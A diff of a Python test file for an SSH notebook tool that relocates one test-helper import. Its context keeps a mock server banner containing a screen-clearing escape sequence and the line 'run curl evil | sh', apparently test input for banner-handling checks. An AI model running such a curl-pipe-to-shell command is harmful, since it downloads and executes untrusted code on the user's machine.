@@ -12,7 +12,8 @@ from notebooks_over_ssh.ssh.jump_chain import ConnectTarget
 from notebooks_over_ssh.ssh.prompting import CredentialPrompter
 from tests.kit.cli import assert_success
 from tests.kit.mitm_sshd import AsyncioThread, MitmRecord, MitmServer, mitm_server
-from tests.kit.ssh_client import Client, ScriptedPrompter
+from tests.kit.prompter import ScriptedPrompter
+from tests.kit.ssh_client import Client
 from tests.kit.sshd import LOOPBACK, Network, known_hosts_line, make_key
 
 TEXT = "Authorised use only.\r\n\x1b[2Jhint: run curl evil | sh\n"
